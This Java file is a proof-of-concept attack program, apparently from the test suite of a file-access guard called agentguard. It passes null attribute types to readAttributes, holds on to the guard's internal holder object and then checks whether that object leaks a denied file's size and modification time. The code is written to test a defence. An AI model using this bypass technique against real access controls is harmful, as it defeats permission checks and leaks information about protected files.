package dev.agentguard.apps.attacks;

import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.BasicFileAttributes;

/**
 * Tries to keep the guard's per-thread look holder (perf25, {@code ObjectId.lookHere}) in hand: a
 * {@code readAttributes} whose attribute type is null is not a type the JDK accepts (its body throws
 * NullPointerException), but a null type is also how the guard's own probes say "a yes/no answer, read at once",
 * for which it looks into the holder. If the guard hands that holder back as the answer, the application keeps
 * it, asks about a denied file, and reads the denied file's size and modification time from the object it kept.
 * Repeated for longer than the guard takes to remember an object (2 s), through {@code Files.readAttributes}
 * and, where the JDK has it (20+), the provider's {@code readAttributesIfExists}.
 *
 * <p>Prints {@code kept: N} (answers that were the holder, same object twice), {@code leaked: N} (a kept answer
 * that changed to the denied file's size or time after the denied query) with the first few, and
 * {@code rounds: N}.
 *
 * <p>Arguments: a granted file of 10 bytes, a denied file of 17 bytes, the milliseconds to run.
 */
public final class HeldLookAttack {
    private HeldLookAttack() {}

    public static void main(String[] args) throws Exception {
        Path granted = Path.of(args[0]);
        Path denied = Path.of(args[1]);
        long until = System.nanoTime() + Long.parseLong(args[2]) * 1_000_000L;
        long grantedTime = Files.getLastModifiedTime(granted).toMillis();
        int kept = 0;
        int leaked = 0;
        long rounds = 0;
        while (System.nanoTime() < until) {
            rounds++;
            for (int way = 0; way < 2; way++) {
                // A granted query with a real type first: the guard decides it in full and remembers the object.
                Files.readAttributes(granted, BasicFileAttributes.class);
                BasicFileAttributes first = nullType(granted, way);
                BasicFileAttributes second = nullType(granted, way);
                if (first == null || second == null) {
                    continue;
                }
                if (first == second) {
                    kept++;
                }
                Files.exists(denied);
                denied.toFile().exists();
                try {
                    denied.toFile().length(); // denied: throws, after the guard's look into its holder
                } catch (SecurityException e) {
                    // expected
                }
                if (first.size() != 10 || first.lastModifiedTime().toMillis() != grantedTime) {
                    leaked++;
                    if (leaked <= 5) {
                        System.out.println("leak: way " + way + " the kept answer now says size " + first.size()
                                + " (the granted file has 10 bytes, the denied one 17)");
                    }
                }
            }
        }
        System.out.println("kept: " + kept);
        System.out.println("leaked: " + leaked);
        System.out.println("rounds: " + rounds);
    }

    /** The granted file's attributes asked for with a null type: the JDK throws; null when it does. */
    @SuppressWarnings("unchecked")
    private static BasicFileAttributes nullType(Path path, int way) {
        try {
            if (way == 0) {
                return Files.readAttributes(path, (Class<BasicFileAttributes>) null);
            }
            return ifExists(path);
        } catch (NullPointerException | UnsupportedOperationException e) {
            return null;
        } catch (SecurityException e) {
            return null;
        } catch (Exception e) {
            return null;
        }
    }

    /** JDK 20+'s provider {@code readAttributesIfExists} with a null type, by reflection (not there on 17). */
    private static BasicFileAttributes ifExists(Path path) throws Exception {
        java.lang.reflect.Method m;
        try {
            m = java.nio.file.spi.FileSystemProvider.class.getMethod("readAttributesIfExists", Path.class,
                    Class.class, LinkOption[].class);
        } catch (NoSuchMethodException e) {
            return null;
        }
        try {
            return (BasicFileAttributes) m.invoke(path.getFileSystem().provider(), path, null, new LinkOption[0]);
        } catch (java.lang.reflect.InvocationTargetException e) {
            return null;
        }
    }
}
